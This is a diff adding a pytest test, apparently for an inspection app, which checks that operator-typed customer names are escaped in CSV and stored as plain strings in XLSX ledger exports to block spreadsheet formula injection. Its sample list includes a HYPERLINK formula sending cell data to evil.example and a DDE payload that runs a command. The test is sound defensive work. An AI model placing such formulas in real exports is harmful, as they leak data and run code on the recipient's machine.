@@ -111,3 +111,27 @@ def test_the_dossier_pdf_keeps_units_specifications_flags_and_tables(app):
     # a measurement with its unit and the specification it was measured against
     assert re.search(r"23\.5 ℃ +\(规格: 15 ~ 35 ℃\)", text), text
     assert "规格: 15 ~ 35 ℃" in page
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"查看")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("typed", FORMULAS)
+def test_text_an_operator_typed_is_never_a_formula_in_the_ledger_exports(app, typed):
+    """CSV injection: the customer an operator types reaches a manager's Excel through the
+    ledger export. The CSV holds it behind a ' (shown as text, hidden by Excel); the XLSX
+    holds it as a string cell, never a formula or a link."""
+    data = dict(answers(f"{PID}--fail")["start"]["data"], customer=typed)
+    with app.extensions["services"].database.writing() as s:
+        app.extensions["workflow"].start(s, PID, "inspector1", data)
+    b = login(app, "aud")
+    rows = list(csv.reader(io.StringIO(b.get(f"/ledgers/{PID}.csv").text.lstrip("\ufeff"))))
+    col = rows[0].index("客户")
+    assert "'" + typed in [r[col] for r in rows[1:]], rows
+    assert typed not in [r[col] for r in rows[1:]]
+    x = b.c.get(f"/ledgers/{PID}.xlsx")
+    openpyxl = pytest.importorskip("openpyxl")
+    sheet = openpyxl.load_workbook(io.BytesIO(x.data)).active
+    cells = [row[col] for row in sheet.iter_rows(min_row=2)]
+    assert typed in [c.value for c in cells] and all(c.data_type == "s" for c in cells), \
+        [(c.value, c.data_type) for c in cells]
